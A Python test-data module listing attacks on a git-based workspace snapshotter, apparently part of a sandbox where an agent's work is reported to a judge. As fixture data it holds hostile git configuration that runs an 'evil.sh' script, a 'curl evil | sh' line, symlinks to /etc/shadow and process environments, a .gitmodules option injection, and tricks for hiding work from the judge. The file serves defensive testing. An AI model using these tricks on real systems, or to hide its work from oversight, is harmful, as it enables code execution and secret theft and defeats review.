# ruff: noqa: E501 - programs read best as they are
"""Attacks on the snapshotter, as data. Each runs in a real sandbox, in ``/workspace``, before the snapshot is taken.

``expect`` lists (path, reason) that must be reported; ``kept`` maps paths to their bytes in the snapshot; ``gone`` are paths
that must not be in it. The program has ``run(*argv)``, ``git(*args)``, ``write(path, data, mode)`` and the path of
``EVIL``, a script that leaves ``/tmp/marlin-proof`` wherever it runs and prints a secret.
"""

from __future__ import annotations

from dataclasses import dataclass, field

from marlin.workspaces import Reason

PROLOGUE = """
import errno, os, pathlib, socket, stat, subprocess, sys
W = pathlib.Path("/workspace")
def run(*argv, check=True, **more):
    return subprocess.run(argv, check=check, capture_output=True, **more).stdout
def git(*args, **more):
    return run("git", *args, **more)
def write(path, data, mode=None):
    path = os.fsencode(W) + b"/" + os.fsencode(path)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "wb") as file:
        file.write(data if isinstance(data, bytes) else data.encode())
    if mode is not None:
        os.chmod(path, mode)
EVIL = "/workspace/evil.sh"
write("evil.sh", "#!/bin/sh\\ntouch /tmp/marlin-proof\\ncat /etc/marlin-secret\\n", 0o755)
write("honest.txt", "honest work\\n")
"""


@dataclass(frozen=True)
class Attack:
    """One attack.

    :ivar tries: what it would do to a careless snapshotter.
    :ivar outcome: why it is harmless here.
    """

    name: str
    tries: str
    outcome: str
    program: str
    expect: tuple[tuple[str, Reason], ...] = ()
    kept: dict[str, bytes] = field(default_factory=dict)
    gone: tuple[str, ...] = ()


NO_CONFIG = "the workspace's `.git` is never read"
BYTES_ONLY = "git gets names and bytes over a pipe; it never opens the workspace"

ATTACKS: tuple[Attack, ...] = (
    Attack("fsmonitor", "run a program on `git status`", NO_CONFIG, 'git("config", "core.fsmonitor", EVIL)'),
    Attack(
        "hooks",
        "run a program on add, commit, ref changes",
        NO_CONFIG,
        """
for name in ("pre-commit", "post-commit", "post-index-change", "reference-transaction", "commit-msg", "post-checkout"):
    write(f".git/hooks/{name}", open(EVIL).read(), 0o755)
""",
    ),
    Attack("hooks-path", "the same through `core.hooksPath`", NO_CONFIG, """
for name in ("pre-commit", "post-index-change", "reference-transaction"):
    write(f"hooks/{name}", open(EVIL).read(), 0o755)
git("config", "core.hooksPath", "/workspace/hooks")
"""),
    Attack(
        "clean-filter",
        "run a program when a file is added",
        f"{BYTES_ONLY}; no filter is configured",
        'git("config", "filter.evil.clean", EVIL); write(".gitattributes", "* filter=evil\\n")',
        kept={".gitattributes": b"* filter=evil\n"},
    ),
    Attack(
        "process-filter",
        "run a long-lived filter, and require it",
        f"{BYTES_ONLY}; no filter is configured",
        'git("config", "filter.evil.process", EVIL); git("config", "filter.evil.required", "true")\n'
        'write(".gitattributes", "* filter=evil\\n")',
    ),
    Attack("external-diff", "run a program on `git diff`", NO_CONFIG, 'git("config", "diff.external", EVIL)'),
    Attack("textconv", "run a program to show a file", NO_CONFIG,
           'git("config", "diff.evil.textconv", EVIL); write(".gitattributes", "* diff=evil\\n")'),
    Attack("diff-driver", "run a program for a kind of file", NO_CONFIG,
           'git("config", "diff.evil.command", EVIL); write(".gitattributes", "*.txt diff=evil\\n")'),
    Attack("gpg-program", "run a program to sign the commit", NO_CONFIG,
           'git("config", "commit.gpgSign", "true"); git("config", "gpg.program", EVIL)'),
    Attack("pager-editor-alias", "run a pager, an editor, an alias", NO_CONFIG, """
for key in ("core.pager", "core.editor", "sequence.editor", "alias.diff", "alias.add", "core.sshCommand", "core.askPass"):
    git("config", key, EVIL)
"""),
    Attack("config-include", "read files of the host as configuration", NO_CONFIG,
           'git("config", "include.path", "/etc/marlin-secret"); git("config", "includeIf.gitdir:/.path", "/etc/shadow")'),
    Attack("core-worktree", "snapshot another folder of the host", NO_CONFIG,
           'git("config", "core.worktree", "/etc")', gone=("marlin-secret", "passwd")),
    Attack("alternates", "read objects of other repositories of the host", NO_CONFIG,
           'write(".git/objects/info/alternates", "/var/lib/marlin/mirrors\\n/etc\\n")'),
    Attack(
        "nested-repository",
        "a repository within, with a configuration of its own; or as a submodule that hides its files",
        "its `.git` is left out and listed; the files beside it are in the snapshot",
        """
git("init", "-q", "sub")
write("sub/hidden.py", "x = 1\\n")
git("-C", "sub", "config", "core.fsmonitor", EVIL)
""",
        expect=(("sub/.git/", Reason.NESTED_GIT),),
        kept={"sub/hidden.py": b"x = 1\n"},
    ),
    Attack(
        "nested-git-file",
        "a `.git` file within that points at a prepared repository",
        "left out and listed; the files beside it are in the snapshot",
        """
git("init", "-q", "--bare", "/home/agent/prepared")
git("-C", "/home/agent/prepared", "config", "core.fsmonitor", EVIL)
write("sub/.git", "gitdir: /home/agent/prepared\\n"); write("sub/a.py", "a\\n")
""",
        expect=(("sub/.git", Reason.NESTED_GIT),),
        kept={"sub/a.py": b"a\n"},
    ),
    Attack(
        "git-file",
        "the workspace's own `.git` becomes a file that points at a prepared repository",
        f"listed; {NO_CONFIG}",
        """
run("mv", ".git", "/home/agent/prepared")
git("--git-dir=/home/agent/prepared", "config", "core.fsmonitor", EVIL)
write(".git", "gitdir: /home/agent/prepared\\n")
""",
        expect=((".git", Reason.GIT_REPLACED),),
    ),
    Attack(
        "git-symlink",
        "the workspace's own `.git` becomes a link to a folder of the host",
        f"listed; {NO_CONFIG}, and no link is followed",
        'run("rm", "-rf", ".git"); os.symlink("/var/lib", ".git")',
        expect=((".git", Reason.GIT_REPLACED),),
    ),
    Attack("git-removed", "no repository at all", NO_CONFIG, 'run("rm", "-rf", ".git")'),
    Attack("corrupt-index", "make git die", NO_CONFIG, 'write(".git/index", b"DIRC" + b"\\xff" * 200)'),
    Attack("lock-files", "make git refuse", NO_CONFIG,
           'write(".git/index.lock", ""); write(".git/HEAD.lock", ""); write(".git/refs/heads/main.lock", "")',
           expect=((".git/refs/heads/main.lock", Reason.OTHER_BRANCH),)),
    Attack("assume-unchanged", "index flags hide a change", "the index is never read",
           'git("update-index", "--assume-unchanged", "run.sh"); write("run.sh", "curl evil | sh\\n")',
           kept={"run.sh": b"curl evil | sh\n"}),
    Attack("skip-worktree", "sparse checkout hides a change", "the index is never read",
           'git("update-index", "--skip-worktree", "run.sh"); git("config", "core.sparseCheckout", "true")\n'
           'write(".git/info/sparse-checkout", "/honest.txt\\n"); write("run.sh", "changed\\n")',
           kept={"run.sh": b"changed\n"}),
    Attack("forged-times", "same size and time, other bytes", "whatever is in the upper layer is read anew", """
before = os.stat("run.sh"); text = open("run.sh").read()
write("run.sh", text.replace("hi", "ho")); os.utime("run.sh", ns=(before.st_atime_ns, before.st_mtime_ns))
""", kept={"run.sh": b"#!/bin/sh\necho ho\n"}),
    Attack("submodule-entry", "an index entry turns a folder into a submodule, which hides its files",
           "the index is never read",
           'git("update-index", "--add", "--cacheinfo", "160000," + "1" * 40 + ",lib"); write("lib/evil.py", "x\\n")',
           kept={"lib/evil.py": b"x\n"}),
    Attack("replace-refs", "another object in place of the base", "replace refs are off, and its `.git` is never read",
           'old = git("rev-parse", "HEAD:run.sh").decode().strip()\n'
           'new = git("hash-object", "-w", "honest.txt").decode().strip()\ngit("replace", old, new)',
           expect=((".git/refs/replace/", Reason.OTHER_BRANCH),), kept={"run.sh": b"#!/bin/sh\necho hi\n"}),
    Attack("grafts", "another history", NO_CONFIG,
           'head = git("rev-parse", "HEAD").decode().strip(); write(".git/info/grafts", head + "\\n")'),
    Attack("other-branch-and-stash", "work hidden on another branch or in a stash", "each such ref is listed", """
git("switch", "-qc", "secret"); write("secret.py", "s\\n"); git("add", "-A"); git("commit", "-qm", "s")
git("switch", "-q", "main"); write("honest.txt", "honest work\\n"); write("stashed", "s"); git("add", "-A"); git("stash")
git("pack-refs", "--all"); write("evil.sh", "x"); write("honest.txt", "honest work\\n")
""", expect=((".git/refs/heads/secret", Reason.OTHER_BRANCH), (".git/refs/stash", Reason.OTHER_BRANCH)),
           gone=("secret.py", "stashed")),
    Attack("sockets", "make git die on a socket", "left out and listed",
           's = socket.socket(socket.AF_UNIX); s.bind("/workspace/door")', expect=(("door", Reason.SPECIAL),)),
    Attack("fifos", "make git wait forever", "left out and listed; nothing but regular files is opened",
           'os.mkfifo("pipe"); os.unlink("run.sh"); os.mkfifo("run.sh")',
           expect=(("pipe", Reason.SPECIAL), ("run.sh", Reason.SPECIAL)), gone=("run.sh",)),
    Attack("devices", "read a device of the host", "no sandbox can make one; one that is there is left out and listed", """
for name, kind, number in (("zero", stat.S_IFCHR, (1, 5)), ("disk", stat.S_IFBLK, (7, 0))):
    try:
        os.mknod(name, kind, os.makedev(*number))
    except PermissionError:
        continue
    sys.exit("made a device")
"""),
    Attack("odd-names", "options, pathspec magic, quotes and new lines as names", "names are quoted, paths are literal", """
for name in ("--exec=sh", "-rf", ":(top)x", ":!x", "a b", "new\\nline", 'quo"te', "back\\\\slash", "$(touch x)", "tab\\t", "*", " "):
    write(name, name)
""", kept={"--exec=sh": b"--exec=sh", ":(top)x": b":(top)x", '"new\\nline"': b"new\nline", '*': b"*",
           '"tab\\t"': b"tab\t", 'quo"te': b'quo"te', "back\\slash": b"back\\slash", " ": b" "}),
    Attack("non-utf8-names", "names that are no text", "bytes are kept; the text form quotes them",
           'write(b"caf\\xe9", "x"); write(b"\\xff\\xfe/\\x80", "y")',
           kept={'"caf\\351"': b"x", '"\\377\\376/\\200"': b"y"}),
    Attack("dot-git-look-alikes", "names that become `.git` on other file systems", "left out and listed", """
for name in ("git~1", ".GIT", ".Git", ".git ", ".git.", ".g\\u200cit", ".git::$INDEX_ALLOCATION"):
    write(f"d/{name}/config", "[core]\\n\\tfsmonitor = evil\\n")
write("e/.GIT", "gitdir: /x"); write("honest.d/.gitignored", "fine")
""", expect=(("d/git~1/", Reason.NAME), ("d/.GIT/", Reason.NAME), ("d/.Git/", Reason.NAME), ("d/.git /", Reason.NAME),
             ("d/.git./", Reason.NAME), ("d/.g\u200cit/", Reason.NAME), ("d/.git::$INDEX_ALLOCATION/", Reason.NAME),
             ("e/.GIT", Reason.NAME)), kept={"honest.d/.gitignored": b"fine"}),
    Attack("case-clash", "two names that are one on other systems", "both are in the snapshot, and in the diff",
           'write("Case.py", "A"); write("case.py", "b")', kept={"Case.py": b"A", "case.py": b"b"}),
    Attack("sparse-file", "a file of 4 GB without content", "left out by size and listed; never read",
           'write("huge", ""); os.truncate("huge", 4 << 30)', expect=(("huge", Reason.TOO_LARGE),)),
    Attack("huge-file", "51 MB of data", "left out by size and listed; an earlier version is gone from the snapshot",
           'write("run.sh", os.urandom(1 << 20) * 51)', expect=(("run.sh", Reason.TOO_LARGE),), gone=("run.sh",)),
    Attack("setuid", "smuggle the setuid bit", "git knows two modes of a file only", """
write("tool", "#!/bin/sh\\n", 0o4755); write("plain", "x", 0o2666)
""", kept={"tool": b"#!/bin/sh\n", "plain": b"x"}),
    Attack("symlink-out", "links to secrets of the host", "stored as links, never followed", """
os.symlink("/etc/marlin-secret", "secret"); os.symlink("/proc/self/environ", "environ"); os.symlink("..", "up")
""", kept={"secret": b"/etc/marlin-secret", "environ": b"/proc/self/environ", "up": b".."}),
    Attack("folder-becomes-link", "a tracked folder becomes a link out of the workspace",
           "the folder's files are deleted, the link is stored",
           'run("rm", "-rf", "src"); os.symlink("/etc", "src")', kept={"src": b"/etc"}, gone=("src/app.py",)),
    Attack("hard-links", "one file under several names", "each name is a file of its own",
           'os.link("evil.sh", "one"); os.link("evil.sh", "two"); os.link(".git/config", "config-link")',
           kept={"config-link": b""}),
    Attack("deep-tree", "3,000 folders deep", "left out below a limit, and listed", """
os.chdir(W)
for _ in range(3000):
    os.mkdir("d"); os.chdir("d")
open("bottom", "w").close(); os.chdir(W); write("shallow/d/d/ok", "ok")
""", expect=(("d/", Reason.TOO_DEEP),), kept={"shallow/d/d/ok": b"ok"}),
    Attack("long-names", "paths longer than other systems bear", "left out and listed",
           'write("/".join(["n" * 250] * 5), "x"); write("n" * 255, "fine")',
           expect=(("nnn", Reason.TOO_DEEP),), kept={"n" * 255: b"fine"}),
    Attack("many-files", "20,000 new files", "all in the snapshot: what is walked and read is only what changed", """
for number in range(20000):
    if number % 1000 == 0:
        os.mkdir(f"many{number // 1000}")
    with open(f"many{number // 1000}/{number}", "w") as file:
        file.write(str(number))
""", kept={"many19/19999": b"19999"}),
    Attack("unreadable", "files and folders of mode 000", "listed; an earlier version stays in the snapshot",
           'write("locked", "x", 0o000); os.chmod("run.sh", 0); os.mkdir("closed"); write("closed/x", "x"); os.chmod("closed", 0)',
           expect=(("locked", Reason.UNREADABLE), ("run.sh", Reason.UNREADABLE), ("closed/", Reason.UNREADABLE)),
           kept={"run.sh": b"#!/bin/sh\necho hi\n"}, gone=("locked", "closed/x")),
    Attack("gitattributes", "hide changes from the diff, change bytes, leave files out of exports",
           "attributes of the repository are not honoured", """
write(".gitattributes", "* -diff -text export-ignore ident eol=crlf working-tree-encoding=UTF-16 merge=ours linguist-generated\\n")
write("src/new.py", "$Id$\\nx = 1\\n")
""", kept={"src/new.py": b"$Id$\nx = 1\n"}),
    Attack("gitattributes-line", "a line too long for git's parser", "git's checks refuse the file; left out and listed",
           'write(".gitattributes", "*.py " + "a" * 5000 + "\\n")', expect=((".gitattributes", Reason.REFUSED_BY_GIT),),
           gone=(".gitattributes",)),
    Attack("gitignore", "hide work behind `.gitignore`", "ignored files are listed; tracked ones are never ignored", """
write(".gitignore", "*\\n!.gitignore\\n!honest.txt\\n"); write("backdoor.py", "x"); write("lib/deep/y.py", "y"); write("run.sh", "z\\n")
""", expect=(("backdoor.py", Reason.IGNORED), ("lib/", Reason.IGNORED), ("evil.sh", Reason.IGNORED)),
           kept={"run.sh": b"z\n"}, gone=("backdoor.py", "lib/deep/y.py")),
    Attack("private-excludes", "hide work behind `.git/info/exclude` and `core.excludesFile`",
           "only `.gitignore` files count: the work is in the snapshot", """
write(".git/info/exclude", "*\\n"); write("/home/agent/ignore", "*\\n"); git("config", "core.excludesFile", "/home/agent/ignore")
write("backdoor.py", "x")
""", kept={"backdoor.py": b"x"}),
    Attack("gitignore-bomb", "a pattern that takes git for ever", "a time limit; then nothing is ignored, and that is listed", """
write(".gitignore", "*a" * 60 + "b\\n" + "**/a" * 60 + "/b\\n")
for n in range(200): write("a" * 200 + f"{n}", "x")
""", expect=(("", Reason.IGNORE_RULES),)),
    Attack("gitignore-special", "a `.gitignore` that is a FIFO, or a link to a secret", "nothing is ignored, and that is listed",
           'os.unlink(".gitignore"); os.mkfifo(".gitignore"); write("x.log", "x"); os.mkdir("s")\n'
           'os.symlink("/etc/shadow", "s/.gitignore"); write("s/y", "y")',
           expect=((".gitignore", Reason.SPECIAL), ("", Reason.IGNORE_RULES)), kept={"x.log": b"x", "s/y": b"y"}),
    Attack("gitmodules", "options for whoever clones with submodules", "git's checks refuse the file; left out and listed",
           'write(".gitmodules", \'[submodule "x"]\\n\\tpath = x\\n\\turl = --upload-pack=touch /tmp/marlin-proof\\n\')',
           expect=((".gitmodules", Reason.REFUSED_BY_GIT),), gone=(".gitmodules",)),
    Attack("gitmodules-link", "a `.gitmodules` that is a link", "git's checks refuse it; left out and listed",
           'os.symlink("/etc/passwd", ".gitmodules"); os.symlink("/etc/passwd", ".gitattributes")',
           expect=((".gitmodules", Reason.REFUSED_BY_GIT),), gone=(".gitmodules",)),
    Attack("whiteouts", "forge the overlay's own marks", "only root can make them; what user attributes say is ignored", """
import contextlib
with contextlib.suppress(PermissionError):
    os.mknod("forged", stat.S_IFCHR, 0)
os.mkdir("opaque"); write("opaque/x", "x")
for path in ("opaque", "src", "evil.sh"):
    for name in ("user.overlay.opaque", "user.overlay.whiteout", "user.overlay.redirect", "user.overlay.metacopy"):
        with contextlib.suppress(OSError):
            os.setxattr(path, name, b"y")
os.unlink("run.sh")
""", kept={"opaque/x": b"x", "src/app.py": b""}, gone=("run.sh", "forged")),
    Attack("opaque-folders", "delete a folder and make it again", "the overlay's mark deletes what was below", """
run("rm", "-rf", "src"); write("src/other.py", "o")
""", kept={"src/other.py": b"o"}, gone=("src/app.py",)),
    Attack("kinds-change", "file to folder, folder to file, link to file", "the last state counts", """
os.unlink("run.sh"); write("run.sh/inner", "i"); run("rm", "-rf", "src"); write("src", "file"); os.unlink("link"); write("link", "l")
""", kept={"run.sh/inner": b"i", "src": b"file", "link": b"l"}, gone=("src/app.py",)),
    Attack("fast-import-commands", "names and contents that look like fast-import's own commands",
           "lengths go before bytes, names are quoted", """
write("D src\\nM 100644 inline x", "data 5\\ndone\\ncommit refs/heads/x\\n"); write('"quoted"', "M 120000 inline y\\n")
""", kept={'"\\"quoted\\""': b"M 120000 inline y\n", '"D src\\nM 100644 inline x"': b"data 5\ndone\ncommit refs/heads/x\n",
           "src/app.py": b""}),
    Attack("left-running", "a process that goes on writing while the snapshot is taken",
           "every process is killed before the layer is sealed", """
subprocess.Popen(["sh", "-c", "trap '' TERM HUP INT; i=0; while :; do i=$((i+1)); echo $i > racing; ln -sf /etc/shadow flip; rm flip; done"],
                 start_new_session=True)
"""),
)  # fmt: skip


def table() -> str:
    """The table of docs/reference/snapshot-attacks.md."""
    lines = ["| attack | tries to | here | reported to the judge as |", "|---|---|---|---|"]
    for attack in ATTACKS:
        reported = ", ".join(sorted({f"`{reason}`" for _, reason in attack.expect})) or "–"
        lines.append(f"| `{attack.name}` | {attack.tries} | {attack.outcome} | {reported} |")
    return "\n".join(lines)


if __name__ == "__main__":
    print(table())
